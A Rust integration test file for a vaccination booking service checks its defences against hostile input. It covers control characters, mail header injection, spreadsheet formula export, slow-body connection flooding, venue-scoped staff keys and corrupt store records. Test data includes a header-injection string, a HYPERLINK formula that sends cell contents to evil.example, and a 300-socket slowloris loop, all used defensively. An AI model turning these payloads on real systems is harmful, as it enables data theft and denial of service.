//! Hostile input (issue 23): text with control characters is refused at
//! every entrance, with the field named; nothing of a refused record is
//! stored.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{ADMIN_KEY, Backend, STAFF_KEY, TestApp, future_date, ticket};

/// Text that would add a header line to a mail, or turn a name around in a roster.
const HOSTILE: [&str; 4] = [
    "住民\r\nBcc: victim@evil.example",
    "住民\tタブ",
    "\u{202E}住民",
    "住民\u{0085}",
];

fn assert_invalid_text(status: u16, body: &Value, field: &str, what: &str) {
    assert_eq!(status, 400, "{what}: {body}");
    assert_eq!(body["code"], "invalid_text", "{what}: {body}");
    assert_eq!(body["field"], field, "{what}: {body}");
}

async fn text_with_control_characters_is_refused_everywhere(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    app.put_venue("clinic-001", "central", &["moderna"]).await;
    for bad in HOSTILE {
        // Residents, as JSON: the record alone is refused, the good one stored.
        for field in ["name", "email", "phone"] {
            let mut record = json!({"ticket_number": ticket(8_000_000_001), "birth_date": "1950-04-01",
                "name": "中野 太郎", "high_risk": false, "history": []});
            record[field] = json!(bad);
            let good = json!({"ticket_number": ticket(8_000_000_002), "birth_date": "1950-04-01",
                "name": "中野 花子", "high_risk": false, "history": []});
            let (status, report) = app
                .send(
                    Method::POST,
                    "/v1/admin/residents",
                    Some(ADMIN_KEY),
                    Some(&json!([record, good])),
                )
                .await;
            assert_eq!(status, 200, "{report}");
            assert_eq!(
                report["rejected"],
                json!([{"line": 1, "code": "invalid_text", "field": field}]),
                "{field} {bad:?}"
            );
        }
        // Venues: name, address and phone; the venue keeps its old text.
        for field in ["name", "address", "phone"] {
            let mut venue = json!({"name": "中野サンプラザ", "kind": "mass", "booking": "central",
                "address": "中野区", "phone": "03", "vaccines": ["moderna"]});
            venue[field] = json!(bad);
            let (status, body) = app
                .send(
                    Method::PUT,
                    "/v1/admin/venues/clinic-001",
                    Some(ADMIN_KEY),
                    Some(&venue),
                )
                .await;
            assert_invalid_text(status, &body, field, "venue");
        }
        // An account's display name: no account made.
        let (status, body) = app
            .send(
                Method::PUT,
                "/v1/admin/accounts/tablet-1",
                Some(ADMIN_KEY),
                Some(&json!({"role": "staff", "display_name": bad})),
            )
            .await;
        assert_invalid_text(status, &body, "display_name", "account");
        // The kill switch's reason: the switch stays as it was.
        let (status, body) = app
            .send(
                Method::PUT,
                "/v1/admin/kill-switch",
                Some(ADMIN_KEY),
                Some(&json!({"engaged": true, "reason": bad})),
            )
            .await;
        assert_invalid_text(status, &body, "reason", "kill switch");
    }
    let (_, venues) = app.send(Method::GET, "/v1/venues", None, None).await;
    assert_eq!(venues["venues"][0]["name"], "Venue clinic-001", "{venues}");
    let (_, accounts) = app
        .send(Method::GET, "/v1/admin/accounts", Some(ADMIN_KEY), None)
        .await;
    assert_eq!(accounts["accounts"], json!([]), "{accounts}");
    let (_, switch) = app
        .send(Method::GET, "/v1/admin/kill-switch", Some(ADMIN_KEY), None)
        .await;
    assert_eq!(switch["engaged"], false, "{switch}");
    // Only the good resident was stored: the one with a hostile name cannot log in.
    app.login_as(&ticket(8_000_000_002), "1950-04-01").await;
    let (status, _) = app
        .send(
            Method::POST,
            "/v1/sessions",
            None,
            Some(&json!({"ticket_number": ticket(8_000_000_001), "birth_date": "1950-04-01"})),
        )
        .await;
    assert_eq!(status, 401);
}

async fn a_csv_row_with_a_line_break_in_a_quoted_name_is_refused_by_its_line(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let csv = format!(
        "ticket_number,birth_date,name\n\
         {},1950-04-01,\"住民\r\nBcc: victim@evil.example\"\n\
         {},1950-04-01,中野 花子\n\
         {},1950-04-01,\"\u{202E}逆さ\"\n",
        ticket(8_000_000_011),
        ticket(8_000_000_012),
        ticket(8_000_000_013),
    );
    let report = app.import_csv(&csv).await;
    assert_eq!(report["imported"], 1, "{report}");
    // The second row starts on the file's fourth line: the first spans two.
    assert_eq!(
        report["rejected"],
        json!([
            {"line": 2, "code": "invalid_text", "field": "name"},
            {"line": 5, "code": "invalid_text", "field": "name"},
        ]),
        "{report}"
    );
}

/// A roster row holds a ticket number and a birth date, which together are
/// a login: a name a spreadsheet runs as a formula could send them out.
async fn the_roster_csv_has_a_bom_and_runs_no_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let date = future_date(10);
    app.venue_day("clinic-001", &date, &[("10:00", 10)]).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"csv\")",
        "+81 太郎",
        "-1+1",
        "@SUM(A1)",
    ];
    let records: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"ticket_number": ticket(8_100_000_000 + i as u64), "birth_date": "1950-04-01",
                "name": name, "high_risk": false, "history": []})
        })
        .collect();
    app.import(json!(records)).await;
    for i in 0..names.len() {
        let token = app
            .login_as(&ticket(8_100_000_000 + i as u64), "1950-04-01")
            .await;
        let (status, body) = app.book(&token, "clinic-001", &date, "10:00").await;
        assert_eq!(status, 201, "{body}");
    }
    let bytes = app.roster_csv("clinic-001", &date).await;
    let text = std::str::from_utf8(&bytes)
        .unwrap()
        .strip_prefix('\u{feff}')
        .expect("the roster starts with a BOM");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut shown: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_owned()).collect();
    shown.sort();
    let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    expected.sort();
    assert_eq!(shown, expected);
    // JSON is for programs: the names as they are.
    let (_, roster) = app
        .send(
            Method::GET,
            &format!("/v1/staff/venues/clinic-001/days/{date}/roster"),
            Some(STAFF_KEY),
            None,
        )
        .await;
    assert!(roster.to_string().contains("@SUM(A1)"), "{roster}");
}

/// The value of an unlabelled metric, read from `/metrics`.
async fn metric(app: &TestApp, name: &str) -> f64 {
    let (_, text) = app.send(Method::GET, "/metrics", None, None).await;
    text.as_str()
        .unwrap_or("")
        .lines()
        .find_map(|line| line.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
        .unwrap_or(0.0)
}

/// Polls `/metrics` (bounded) until `name` reads `want`.
async fn until_metric(app: &TestApp, name: &str, want: f64) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while metric(app, name).await != want {
        assert!(Instant::now() < deadline, "{name} never read {want}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Issue 23: with `--max-in-flight 100`, 110 sockets that sent a login's
/// headers and 18 bytes of its body, then nothing, had locked every
/// resident out for over a minute while `/healthz` stayed green.
async fn slow_bodies_hold_no_place_a_resident_needs(backend: Backend) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    const SLOW: usize = 300;
    let app = TestApp::spawn_with_env(
        backend,
        &[
            ("VAXSLOT_MAX_IN_FLIGHT", "100"),
            ("VAXSLOT_BODY_TIMEOUT_S", "3"),
        ],
    )
    .await;
    let date = future_date(10);
    app.venue_day("clinic-001", &date, &[("10:00", 10)]).await;
    app.import_residents(8_200_000_000, 1).await;
    let address = app.base.trim_start_matches("http://").to_owned();
    let mut slow = Vec::with_capacity(SLOW);
    for _ in 0..SLOW {
        let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
        let head = format!(
            "POST /v1/sessions HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"ticket_number\":\""
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        slow.push(stream);
    }
    // As many slow requests have reached the server as there are places ...
    let deadline = Instant::now() + Duration::from_secs(30);
    while metric(&app, "vaxslot_request_bodies_arriving").await
        + metric(&app, "vaxslot_requests_in_flight").await
        < 100.0
    {
        assert!(Instant::now() < deadline, "the slow requests never arrived");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // ... and a resident logs in and books at once.
    let started = Instant::now();
    let token = app.login(8_200_000_000).await;
    let (status, body) = app.book(&token, "clinic-001", &date, "10:00").await;
    assert_eq!(status, 201, "{body}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "login and booking took {:?} behind slow bodies",
        started.elapsed()
    );
    // After the body deadline each slow socket (every one: none was refused
    // for want of a place) is answered 408 and closed, and the metrics count them.
    until_metric(&app, "vaxslot_request_bodies_timed_out_total", SLOW as f64).await;
    for mut stream in slow {
        let mut answer = Vec::new();
        tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut answer))
            .await
            .expect("the connection is closed")
            .unwrap();
        let answer = String::from_utf8_lossy(&answer);
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(answer.contains("\"code\":\"request_timeout\""), "{answer}");
    }
    assert_eq!(metric(&app, "vaxslot_request_bodies_arriving").await, 0.0);
}

/// A resident import reads its (up to 16 MiB) body after the key is
/// checked, under the same deadline.
#[tokio::test]
async fn a_slow_import_body_is_answered_408_and_its_place_freed() {
    use tokio::io::AsyncReadExt;
    let app = TestApp::spawn_with_env(
        Backend::Embedded,
        &[
            ("VAXSLOT_MAX_IN_FLIGHT", "1"),
            ("VAXSLOT_BODY_TIMEOUT_S", "1"),
        ],
    )
    .await;
    let mut held = app.hold_in_flight(1).await;
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), held[0].read_to_end(&mut answer))
        .await
        .expect("answered and closed")
        .unwrap();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert_eq!(
        metric(&app, "vaxslot_request_bodies_timed_out_total").await,
        1.0
    );
    let (status, _) = app.send(Method::GET, "/v1/venues", None, None).await;
    assert_eq!(status, 200);
}

/// Issue 23: a tablet's key read every venue's roster, each row a ticket
/// number and a birth date (a login). A staff account limited to venues
/// works there only; the refusals are audited; the environment key stays
/// ward-wide.
async fn a_staff_account_limited_to_a_venue_works_there_only(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let date = future_date(0);
    for venue in ["sunplaza", "clinic-002"] {
        app.venue_day(venue, &date, &[("23:59", 10)]).await;
    }
    app.import_residents(8_300_000_000, 2).await;
    for (i, venue) in ["sunplaza", "clinic-002"].iter().enumerate() {
        let token = app.login(8_300_000_000 + i as u64).await;
        let (status, body) = app.book(&token, venue, &date, "23:59").await;
        assert_eq!(status, 201, "{body}");
    }
    // Limiting needs known venues, and only a staff account is limited.
    for (body, code) in [
        (
            json!({"role": "staff", "display_name": "x", "venues": ["nowhere"]}),
            "invalid_venues",
        ),
        (
            json!({"role": "staff", "display_name": "x", "venues": []}),
            "invalid_venues",
        ),
        (
            json!({"role": "staff", "display_name": "x", "venues": ["Bad Id"]}),
            "invalid_venue_id",
        ),
        (
            json!({"role": "operator", "display_name": "x", "venues": ["sunplaza"]}),
            "invalid_venues",
        ),
    ] {
        let (status, answer) = app
            .send(
                Method::PUT,
                "/v1/admin/accounts/tablet-x",
                Some(ADMIN_KEY),
                Some(&body),
            )
            .await;
        assert_eq!(
            (status, answer["code"].as_str()),
            (400, Some(code)),
            "{body}"
        );
    }
    let (status, account) = app
        .send(
            Method::PUT,
            "/v1/admin/accounts/tablet-sunplaza-1",
            Some(ADMIN_KEY),
            Some(&json!({"role": "staff", "display_name": "サンプラザ 受付1", "venues": ["sunplaza"]})),
        )
        .await;
    assert_eq!(status, 201, "{account}");
    assert_eq!(account["venues"], json!(["sunplaza"]));
    let tablet = account["key"].as_str().unwrap().to_owned();
    let roster = |venue: &str| format!("/v1/staff/venues/{venue}/days/{date}/roster");
    let checkin = |venue: &str, n: u64| json!({"venue_id": venue, "date": date, "code": ticket(8_300_000_000 + n)});
    // Its own venue: roster and check-in.
    let (status, _) = app
        .send(Method::GET, &roster("sunplaza"), Some(&tablet), None)
        .await;
    assert_eq!(status, 200);
    let (status, body) = app
        .send(
            Method::POST,
            "/v1/staff/checkins",
            Some(&tablet),
            Some(&checkin("sunplaza", 0)),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    // Another venue: 403, whether the day exists or not, and nothing checked in.
    for path in [roster("clinic-002"), roster("clinic-999")] {
        let (status, body) = app.send(Method::GET, &path, Some(&tablet), None).await;
        assert_eq!(
            (status, body["code"].as_str()),
            (403, Some("forbidden")),
            "{path}"
        );
    }
    let (status, body) = app
        .send(
            Method::POST,
            "/v1/staff/checkins",
            Some(&tablet),
            Some(&checkin("clinic-002", 1)),
        )
        .await;
    assert_eq!(
        (status, body["code"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    // The venues it may use, for the tablet's page.
    let (_, venues) = app
        .send(Method::GET, "/v1/staff/venues", Some(&tablet), None)
        .await;
    let ids: Vec<&str> = venues["venues"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["venue_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["sunplaza"]);
    let (_, venues) = app
        .send(Method::GET, "/v1/staff/venues", Some(STAFF_KEY), None)
        .await;
    assert_eq!(venues["venues"].as_array().unwrap().len(), 2);
    // The environment staff key is ward-wide: the other resident is still booked there.
    let (_, other) = app
        .send(Method::GET, &roster("clinic-002"), Some(STAFF_KEY), None)
        .await;
    assert!(other.as_str().unwrap().contains(",booked,web"), "{other}");
    // The refusals are in the audit log, by account.
    let (_, audit) = app
        .send(
            Method::GET,
            "/v1/admin/audit?actor=account:tablet-sunplaza-1",
            Some(ADMIN_KEY),
            None,
        )
        .await;
    let outcomes: Vec<(&str, &str)> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap(),
                e["outcome"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        outcomes,
        [
            ("staff.roster", "200 ok"),
            ("staff.checkin", "200 ok"),
            ("staff.roster", "403 forbidden"),
            ("staff.roster", "403 forbidden"),
            ("staff.checkin", "403 forbidden"),
        ],
        "{audit}"
    );
    // Re-putting without venues makes it ward-wide again (a PUT is the whole account).
    let (status, account) = app
        .send(
            Method::PUT,
            "/v1/admin/accounts/tablet-sunplaza-1",
            Some(ADMIN_KEY),
            Some(&json!({"role": "staff", "display_name": "サンプラザ 受付1"})),
        )
        .await;
    assert_eq!(status, 200, "{account}");
    assert!(account.get("venues").is_none(), "{account}");
}

/// Issue 23: a day in year 0001 was accepted and counted in the launch's capacity.
async fn a_day_far_from_today_is_refused_and_counts_nowhere(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    app.venue_day("clinic-001", &future_date(400), &[("10:00", 7)])
        .await;
    for date in [
        "0001-01-01",
        "9999-12-31",
        &future_date(401),
        &future_date(-401),
    ] {
        let (status, body) = app.put_day("clinic-001", date, &[("10:00", 1000)]).await;
        assert_eq!(
            (status, body["code"].as_str()),
            (400, Some("invalid_date")),
            "{date}: {body}"
        );
    }
    let (_, status) = app
        .send(Method::GET, "/v1/admin/status", Some(ADMIN_KEY), None)
        .await;
    assert_eq!(status["slots"]["capacity"], 7, "{status}");
}

/// The sum of a counter's series whose labels contain `label`.
async fn counted(app: &TestApp, name: &str, label: &str) -> f64 {
    let (_, text) = app.send(Method::GET, "/metrics", None, None).await;
    text.as_str()
        .unwrap_or("")
        .lines()
        .filter(|line| line.starts_with(&format!("{name}{{")) && line.contains(label))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

/// One bad record (a hand edit, a newer release's format, a torn write) in
/// a shared store stops nothing else: the process starts, every other
/// resident, venue, account and day works, the member list is read; the
/// day whose reservation cannot be read is left out whole (never a place
/// sold twice); each skip is counted.
#[tokio::test]
async fn bad_records_in_the_store_stop_nothing_else() {
    let app = TestApp::spawn(Backend::Redis).await;
    let date = future_date(10);
    app.venue_day("clinic-001", &date, &[("10:00", 10)]).await;
    app.venue_day("clinic-002", &date, &[("10:00", 10)]).await;
    app.import_residents(8_400_000_000, 3).await;
    let first = app.login(8_400_000_000).await;
    let (status, body) = app.book(&first, "clinic-002", &date, "10:00").await;
    assert_eq!(status, 201, "{body}");
    let mut raw = app.raw_redis().await;
    let day_hashes: Vec<String> = ::redis::cmd("KEYS")
        .arg(format!("vaxslot:*:day:clinic-002/{date}:reservations"))
        .query_async(&mut raw)
        .await
        .unwrap();
    assert_eq!(day_hashes.len(), 1);
    for (key, field) in [
        ("vaxslot:residents", "8499999999"),
        ("vaxslot:venues", "bad-venue"),
        ("vaxslot:accounts", "bad-account"),
        (
            day_hashes[0].as_str(),
            "00000000-0000-4000-8000-000000000000",
        ),
    ] {
        let _: i64 = ::redis::cmd("HSET")
            .arg(key)
            .arg(field)
            .arg("{\"broken\":")
            .query_async(&mut raw)
            .await
            .unwrap();
    }
    let _: i64 = ::redis::cmd("ZADD")
        .arg("vaxslot:members")
        .arg(i64::MAX / 2)
        .arg("garbage")
        .query_async(&mut raw)
        .await
        .unwrap();
    let app = app.crash_and_restart().await;
    let second = app.login(8_400_000_001).await;
    let (status, body) = app.book(&second, "clinic-001", &date, "10:00").await;
    assert_eq!(status, 201, "a good day books: {body}");
    // The day with a record that cannot be read is left out whole: not
    // offered, not bookable (never loaded without its record, so never
    // oversold), until it is repaired.
    let third = app.login(8_400_000_002).await;
    let (status, body) = app.book(&third, "clinic-002", &date, "10:00").await;
    assert_eq!(
        (status, body["code"].as_str()),
        (404, Some("not_found")),
        "{body}"
    );
    let (_, offered) = app
        .send(
            Method::GET,
            &format!("/v1/availability?date={date}"),
            None,
            None,
        )
        .await;
    let offered = offered.to_string();
    assert!(
        offered.contains("clinic-001") && !offered.contains("clinic-002"),
        "{offered}"
    );
    let (_, venues) = app.send(Method::GET, "/v1/venues", None, None).await;
    assert_eq!(venues["venues"].as_array().unwrap().len(), 2, "{venues}");
    let name = "vaxslot_records_skipped_total";
    for what in ["resident", "venue", "account", "day reservations"] {
        assert!(
            counted(&app, name, &format!("what=\"{what}\"")).await >= 1.0,
            "{what} not counted"
        );
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while counted(&app, name, "what=\"member\"").await < 1.0 {
        assert!(
            Instant::now() < deadline,
            "the bad member record was never counted"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Found by the check-in code's property test: a 16-byte code of
/// multi-byte characters was split inside a character, and the handler
/// panicked (the tablet saw its connection drop).
#[tokio::test]
async fn a_sixteen_byte_code_of_any_characters_is_an_invalid_code() {
    let app = TestApp::spawn(Backend::Embedded).await;
    let date = future_date(0);
    app.venue_day("clinic-001", &date, &[("23:59", 5)]).await;
    for code in ["!🡠𐨕®ꫛ®", "１３１１４８１３１１", "131148１３１１４"] {
        let (status, body) = app
            .send(
                Method::POST,
                "/v1/staff/checkins",
                Some(STAFF_KEY),
                Some(&json!({"venue_id": "clinic-001", "date": date, "code": code})),
            )
            .await;
        assert_eq!(
            (status, body["code"].as_str()),
            (400, Some("invalid_code")),
            "{code}: {body}"
        );
    }
}

on_both_stores!(
    a_day_far_from_today_is_refused_and_counts_nowhere,
    a_staff_account_limited_to_a_venue_works_there_only,
    slow_bodies_hold_no_place_a_resident_needs,
    the_roster_csv_has_a_bom_and_runs_no_formula,
    text_with_control_characters_is_refused_everywhere,
    a_csv_row_with_a_line_break_in_a_quoted_name_is_refused_by_its_line,
);
